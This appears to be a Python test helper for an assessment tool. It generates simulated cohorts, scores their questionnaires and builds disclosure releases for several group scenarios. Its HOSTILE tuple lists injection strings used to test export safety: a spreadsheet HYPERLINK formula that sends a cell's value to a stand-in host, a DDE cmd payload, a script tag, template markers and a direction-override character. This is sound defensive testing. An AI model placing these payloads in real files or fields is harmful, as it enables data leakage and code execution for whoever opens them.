"""Groups of simulated people, published: of each size, with all that a file may hold."""

import random
from collections.abc import Sequence
from datetime import date
from functools import cache

import numpy as np

from assessments import sittings
from assessments.cohort import disclosure
from assessments.cohort.counts import Deed, count
from assessments.cohort.disclosure import Release
from assessments.cohort_results import Earlier, Results, results_of
from assessments.cohort_tables import Subject
from assessments.demonstration import simulated_sheet
from assessments.instrument.document import Instrument
from assessments.instrument.loading import load
from assessments.questionnaire import Questionnaire
from assessments.scoring.profile import score
from tests.conftest import SEEDS

KINDS = ("eleven", "thirty", "changed", "followed", "classes", "compared", "large")
DAY = date(2026, 11, 24)
SUBJECT = Subject(
    cohort="Ward 12",
    moment="before the training",
    simulated=False,
    opened_on=date(2026, 11, 1),
    closed_on=DAY,
)
HOSTILE = (
    '=HYPERLINK("https://example.org/?"&A1,"click")',
    "+33 1 23; =1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,2)",
    "  =1+1",
    "＝1+1",
    "＠SUM(1)",
    "<script>alert(1)</script>",
    "{{ 7*7 }} {% load %} %(n)s %s",
    'Unité "A", 2\u202e1',
    "anticonstitutionnellement" * 4 + "=x",
)
"""Names that a trainer might type and that a file must hold without harm."""


def matrix(rows: Sequence[bytes]) -> np.ndarray:
    """Rows of bytes, all as long, as a matrix."""
    return np.frombuffer(b"".join(rows), dtype=np.uint8).reshape(len(rows), -1)


@cache
def real() -> Instrument:
    """The instrument that is really asked."""
    return load(SEEDS)


@cache
def released(
    people: int, ability: float, phase: str, *, group: str | None = None, seed: int = 3
) -> Release:
    """What is published of people around an ability, who all keep steps."""
    instrument = real()
    form = instrument.forms[0]
    asked = Questionnaire(instrument, form)
    chance = random.Random(seed)
    sheets, outcomes, steps = [], [], []
    for _person in range(people):
        sheet = simulated_sheet(instrument, form, chance.gauss(ability, 0.7), chance)
        profile = score(instrument, form, sheet)
        sheets.append(asked.layout.pack(sheet))
        outcomes.append(sittings.stored_outcomes(instrument, profile))
        steps.append([step.step for step in profile.next_steps])
    deeds = [[chance.choice(list(Deed)) for _step in kept] for kept in steps]
    counts = count(
        instrument,
        form,
        matrix(sheets),
        matrix(outcomes),
        steps,
        deeds if phase == "follow-up" else None,
    )
    return disclosure.release(counts, phase=phase, day=DAY, randbelow=chance.randrange, group=group)


def results(kind: str) -> Results:
    """The results of a group, in the active language."""
    before = Earlier("before the training", (released(30, 0.0, "before"),))
    after = Earlier("after the training", (released(30, 0.9, "after"),))
    match kind:
        case "eleven":
            return results_of(real(), [released(11, 0.3, "before")], 11)
        case "thirty":
            return results_of(real(), before.releases, 11)
        case "changed":
            return results_of(real(), after.releases, 11, earlier=[before])
        case "followed":
            last = released(30, 1.2, "follow-up")
            return results_of(real(), [last], 11, earlier=[before, after])
        case "classes":
            options = real().context[0].options[:2]
            return results_of(
                real(),
                [
                    released(22, place, "before", group=option.code)
                    for place, option in enumerate(options)
                ],
                11,
                breakdown="profession",
            )
        case "compared":
            others = disclosure.union(released(24, 0.5, "before", seed=seed) for seed in (8, 9))
            return results_of(real(), before.releases, 11, others=others)
        case "large":
            return results_of(real(), [released(120, 0.3, "before")], 11)
    raise KeyError(kind)
